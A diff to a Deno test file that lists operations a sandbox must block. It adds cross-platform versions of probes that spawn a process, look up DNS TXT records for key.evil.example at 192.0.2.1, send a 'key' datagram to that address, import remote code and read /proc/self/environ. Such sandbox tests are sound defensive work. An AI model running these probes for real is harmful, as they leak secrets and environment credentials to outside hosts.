@@ -41,6 +41,9 @@ Deno.test("the shipped flags are exactly these; whoever adds one has to say so h
   );
 });
 
+/** One that is there on every system, as a word of code. */
+const PROGRAM = JSON.stringify(Deno.execPath());
+
 const STOPPED: readonly { readonly name: string; readonly code: string }[] = [
   {
     name: "fetch from another host",
@@ -61,18 +64,22 @@ const STOPPED: readonly { readonly name: string; readonly code: string }[] = [
   },
   {
     name: "ask DNS",
-    code: `await Deno.resolveDns("key.evil.example", "TXT");`,
+    code:
+      `await Deno.resolveDns("key.evil.example", "TXT", { nameServer: { ipAddr: "192.0.2.1", port: 53 } });`,
   },
   {
     name: "send a datagram",
     code:
       `const { createSocket } = await import("node:dgram"); createSocket("udp4").send("key", 53, "192.0.2.1", (error) => { if (error) throw error; });`,
   },
-  { name: "start a process", code: `await new Deno.Command("true").output();` },
+  {
+    name: "start a process",
+    code: `await new Deno.Command(${PROGRAM}).output();`,
+  },
   {
     name: "start a process by Node's API",
     code:
-      `const { spawnSync } = await import("node:child_process"); const { pid, status } = spawnSync("true"); if (pid === undefined && status === undefined) throw new Error("NotCapable, said by silence");`,
+      `const { spawnSync } = await import("node:child_process"); const { pid, status } = spawnSync(${PROGRAM}); if (pid === undefined && status === undefined) throw new Error("NotCapable, said by silence");`,
   },
   { name: "load a native library", code: `Deno.dlopen("libc.so.6", {});` },
   ...[
@@ -86,10 +93,13 @@ const STOPPED: readonly { readonly name: string; readonly code: string }[] = [
       name: `load code from ${specifier}`,
       code: `await import(${JSON.stringify(specifier)});`,
     })),
-  {
-    name: "read the environment of a process",
-    code: `await Deno.readTextFile("/proc/self/environ");`,
-  },
+  // Elsewhere, no file shows it.
+  ...Deno.build.os === "linux"
+    ? [{
+      name: "read the environment of a process",
+      code: `await Deno.readTextFile("/proc/self/environ");`,
+    }]
+    : [],
 ];
 
 for (const { name, code } of STOPPED) {
